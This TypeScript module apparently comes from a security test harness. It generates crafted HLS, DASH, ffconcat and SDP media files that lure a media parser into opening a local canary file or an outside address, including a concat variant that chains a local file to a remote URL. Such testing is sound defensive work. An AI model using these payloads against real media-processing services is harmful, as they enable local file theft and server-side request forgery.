/** Files that ask whoever opens them to open something else: a file beside them, or an address. */
export type Lure = { canary: string; address: string };

const sdp = ({ address }: Lure) => {
  const { hostname, port } = new URL(address);
  return `v=0\no=- 0 0 IN IP4 ${hostname}\ns=x\nc=IN IP4 ${hostname}\nt=0 0\nm=video ${port} RTP/AVP 96\na=rtpmap:96 H264/90000\n`;
};
const hls = (uri: string) =>
  `#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:4\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:4,\n${uri}\n#EXT-X-ENDLIST\n`;
const dash = (uri: string) =>
  `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT4S"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>${uri}</BaseURL></Representation></AdaptationSet></Period></MPD>`;

export const attacks: Record<string, (lure: Lure) => string> = {
  hlsAddress: ({ address }) => hls(`${address}a.ts`),
  hlsFile: ({ canary }) => hls(`file://${canary}`),
  hlsConcat: ({ canary, address }) => hls(`concat:${canary}|${address}a.ts`),
  concatAbsolute: ({ canary }) => `ffconcat version 1.0\nfile '${canary}'\n`,
  concatRelative: () => "ffconcat version 1.0\nfile 'canary.mp4'\n",
  concatAddress: ({ address }) => `ffconcat version 1.0\nfile '${address}a.mp4'\n`,
  dashAddress: ({ address }) => dash(`${address}a.mp4`),
  dashFile: ({ canary }) => dash(`file://${canary}`),
  sdp,
};
